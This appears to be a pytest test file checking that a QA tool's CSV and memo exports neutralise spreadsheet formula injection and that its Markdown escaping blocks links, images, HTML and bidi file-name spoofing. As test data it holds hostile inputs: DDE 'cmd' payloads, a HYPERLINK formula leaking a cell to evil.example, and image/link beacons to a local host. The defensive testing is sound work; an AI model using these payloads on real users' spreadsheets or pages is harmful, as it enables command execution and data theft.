"""Formula-injection-safe exports (OWASP CSV injection): formula-like cells become text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.qa.exports import FORMULA_PREFIXES, neutralise_cell, to_csv


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=1+1",
        "-",
        "+",
        "@",
        "=",
        "-x",
        "@handle",
    ],
)
def test_formula_like_cells_get_a_leading_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-3.1", "+5", "-1,234.50", "-12%", "1e6", "-2.5E-3", "Acme = good", "2019-01-05", "450000", "", None, "'=1"],
)
def test_numbers_and_ordinary_text_are_left_alone(value: str | None) -> None:
    assert neutralise_cell(value) == value


@given(st.text())
def test_no_neutralised_cell_starts_with_a_formula_character_unless_it_is_a_number(value: str) -> None:
    out = neutralise_cell(value)
    assert out in (value, "'" + value)
    if out.startswith(FORMULA_PREFIXES):
        assert out == value and any(c.isdigit() for c in value)
        assert float(value.replace(",", "").rstrip("%")) == float(value.replace(",", "").rstrip("%"))


def test_csv_export_quotes_and_neutralises_every_cell() -> None:
    text = to_csv(["Company", "=Total"], [["Acme, Inc.", '=HYPERLINK("x")'], ["Borealis", "-1,500.25"],
                                         [None, "@SUM(A1)"]])  # fmt: skip
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Company", "'=Total"], ["Acme, Inc.", "'=HYPERLINK(\"x\")"], ["Borealis", "-1,500.25"],
                    ["", "'@SUM(A1)"]]  # fmt: skip


def test_every_line_of_the_memo_export_is_neutralised() -> None:
    from core.qa.exports import FORMULA_PREFIXES
    from core.qa.feedback import Turn, answer_memo
    from tests.factories import CELL, PAGE

    evil = '=HYPERLINK("http://evil.example","x")'
    turns = [
        Turn(message_id=1, question=f"What is it?\n{evil}", answer="It is 5 [1].\n@SUM(A1)\r+cmd|' /C calc'!A0",
             citations=[CELL.model_copy(update={"value": f"ok\n{evil}"}), PAGE], abstained=False, query_id=3,
             created_at=None, markers={1: [0], 2: [1]}),
        Turn(message_id=2, question=evil, answer="-2+3+cmd|' /C calc'!A0", citations=[], abstained=True,
             query_id=4, created_at=None),
    ]  # fmt: skip
    attempts = got_through = 0
    for turn in turns:
        for line in answer_memo(turn, "=Room").splitlines():
            attempts += 1
            got_through += line.startswith(FORMULA_PREFIXES) and not line.lstrip("+-").replace(".", "").isdigit()
    print(f"memo lines a spreadsheet would run: {attempts} lines, {got_through} formulas")
    assert got_through == 0
    assert "'" + evil in answer_memo(turns[0], "Room")


# --- The rendering rule for user-controlled text on a page (escape_markdown) ---------------------------------

HOSTILE = [
    "![x](http://127.0.0.1:8999/a.png)",
    "[click](http://127.0.0.1:8999/l)",
    "<img src='http://127.0.0.1:8999/h.png'>",
    "<a href='http://127.0.0.1:8999/'>x</a>",
    "<http://127.0.0.1:8999/angle>",
    "[ref]: http://127.0.0.1:8999/r\n\n![ref]",
    "**bold** _it_ `code` # head $x^2$ :red[red]",
    "# heading\n- item\n1. first\n2) second\n\ntitle\n===\n> quote\n| a | b |\n|---|---|\n| 1 | 2 |",
    "&#x202E;&lt;script&gt;",
]


def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_renders_no_link_image_or_html(text: str) -> None:
    from core.qa.exports import escape_markdown

    for shown in (escape_markdown(text), escape_markdown(text, math_only=True)):
        rendered = _html(shown)
        assert "<img" not in rendered and "<a " not in rendered and "<a>" not in rendered, rendered
    rendered = _html(escape_markdown(text))
    for tag in ("<strong>", "<em>", "<code>", "<h1>", "<h2>", "<li>", "<blockquote>", "<table>", "\u202e", "<script"):
        assert tag not in rendered, (tag, rendered)


def test_escaped_text_reads_as_it_was() -> None:
    """Escaping changes what Markdown does with the text, not what a reader sees (bar the word joiners)."""
    from core.qa.exports import WORD_JOINER, escape_markdown

    text = "Q3 *draft* [v2] <final> $1,200 #7 see http://x.example/a"
    assert _html(escape_markdown(text)).replace(WORD_JOINER, "").strip() == (
        "<p>Q3 *draft* [v2] &lt;final&gt; $1,200 #7 see http://x.example/a</p>"
    )


@pytest.mark.parametrize(
    "text",
    [
        "see http://127.0.0.1:8999/a",
        "HTTPS://EVIL.example/x",
        "www.evil.example",
        "go to WWW.evil.example",
        "ftp://host/file",
    ],
)
def test_bare_urls_and_addresses_are_broken(text: str) -> None:
    """GitHub Markdown (Streamlit's) links `scheme://` and `www.` by themselves: each is broken by a word joiner,
    which no autolink rule matches across."""
    from core.qa.exports import escape_markdown

    for shown in (escape_markdown(text), escape_markdown(text, math_only=True)):
        assert "://" not in shown and "www." not in shown.lower()


@pytest.mark.parametrize("control", sorted("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"))
def test_bidi_controls_are_shown_not_obeyed(control: str) -> None:
    """A file named `invoice<U+202E>fdp.exe` must not read as `invoiceexe.pdf`: each control is a visible marker."""
    from core.qa.exports import BIDI_CONTROLS, escape_markdown

    name = f"invoice{control}fdp.exe"
    for shown in (escape_markdown(name), escape_markdown(name, math_only=True)):
        assert not BIDI_CONTROLS & set(shown)
        assert f"U\\+{ord(control):04X}" in shown or f"U+{ord(control):04X}" in shown


def test_answers_keep_emphasis_and_lists() -> None:
    from core.qa.exports import escape_markdown

    rendered = _html(escape_markdown("**Revenue** was $1.2M\n\n- one\n- two [1]", math_only=True))
    assert "<strong>Revenue</strong>" in rendered and "<li>one</li>" in rendered and "$1.2M" in rendered
    assert "[1]" in rendered
